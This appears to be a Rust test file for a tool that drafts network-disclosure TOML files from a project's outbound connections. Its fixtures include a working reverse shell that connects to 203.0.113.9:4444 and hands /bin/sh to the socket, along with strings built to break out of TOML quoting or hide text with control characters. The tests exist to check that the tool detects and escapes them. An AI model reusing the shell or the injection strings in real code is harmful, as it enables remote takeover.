//! Drafts of trees in memory.

use super::*;
use crate::check::{self, Options};
use crate::files::FileSystem;

fn check(files: &[(&str, &str)]) -> Checked {
    let options = Options {
        paths: vec![PathBuf::from("/t")],
        system: FileSystem::memory(files.iter().map(|(path, text)| (format!("/t/{path}"), *text))),
        suppressions: true,
        inventory: true,
        threads: Some(1),
        ..Options::default()
    };
    check::check(&options, &|_| {}).unwrap()
}

fn drafted(main: &str) -> Draft {
    let manifest = "[package]\nname = \"p\"\nversion = \"1.0.0\"\nedition = \"2021\"\n\
                    [dependencies]\nureq = \"3\"\nhostname = \"0.4\"\n";
    let draft = draft(&check(&[("Cargo.toml", manifest), ("src/main.rs", main)]), Path::new("/t"));
    let read =
        check(&[("overt.toml", &draft.text), ("Cargo.toml", manifest), ("src/main.rs", main)]);
    // Its own reader takes it, and says what is left to do.
    let told =
        read.warnings.iter().filter(|warning| warning.message.contains("open questions")).count();
    assert_eq!(told > 0, draft.todos > 0, "{:?}", read.warnings);
    draft
}

#[test]
fn what_is_known_is_filled_in() {
    let draft = drafted(
        r#"
        struct Settings { crash_reports: bool, mirror: String }
        fn main() {
            let settings = Settings { crash_reports: false, mirror: std::env::var("MIRROR").unwrap() };
            if settings.crash_reports {
                let host = hostname::get().unwrap().to_string_lossy().into_owned();
                let _ = ureq::post("https://crash.example.org/api").send(host);
            }
            let _ = ureq::get(&settings.mirror).call();
            let _ = ureq::get("http://localhost:3000").call();
            let _ = std::net::TcpListener::bind("0.0.0.0:80");
        }
        "#,
    );
    let (_, blocks) = draft.text.split_once("explains a finding.\n").unwrap();
    insta::assert_snapshot!(blocks);
}

#[test]
fn hostile_names_stay_in_their_strings() {
    let draft = drafted(
        r#"
        fn main() {
            let _ = ureq::get("https://a\"]\nevil = \"x\n[lints]\n.example.org/").call();
            let _ = ureq::get("https://'''\u{202e}\u{1b}[2J.example.org/'''").call();
            let _ = std::net::TcpStream::connect("b\\.example.org:1");
        }
        "#,
    );
    let table: toml::Table = toml::from_str(&draft.text).unwrap();
    assert_eq!(table.keys().collect::<Vec<_>>(), ["disclosure"], "{}", draft.text);
    let hidden = |c: char| c != '\n' && escape::is_hidden(c);
    assert!(!draft.text.contains(hidden), "{}", draft.text);
}

#[test]
fn an_attack_gets_no_block() {
    let draft = drafted(
        r#"
        use std::os::fd::{AsRawFd, FromRawFd};
        fn main() {
            let s = std::net::TcpStream::connect("203.0.113.9:4444").unwrap();
            let fd = s.as_raw_fd();
            unsafe {
                std::process::Command::new("/bin/sh")
                    .stdin(std::process::Stdio::from_raw_fd(fd))
                    .stdout(std::process::Stdio::from_raw_fd(fd))
                    .spawn()
                    .unwrap();
            }
        }
        "#,
    );
    assert_eq!(draft.disclosures, 0, "{}", draft.text);
    assert!(draft.attacks > 0 && draft.text.contains("reverse-shell"), "{}", draft.text);
    assert!(!draft.text.contains("[[disclosure]]\nid"));
}

#[test]
fn ids_are_unique_words() {
    let mut ids = BTreeSet::new();
    let made: Vec<String> = ["Crash.example.org", "crash.example.org", "…", "[2001:db8::1]"]
        .map(|w| id(w, &mut ids))
        .into();
    assert_eq!(made, ["crash-example-org", "crash-example-org-2", "destination", "2001-db8-1"]);
}
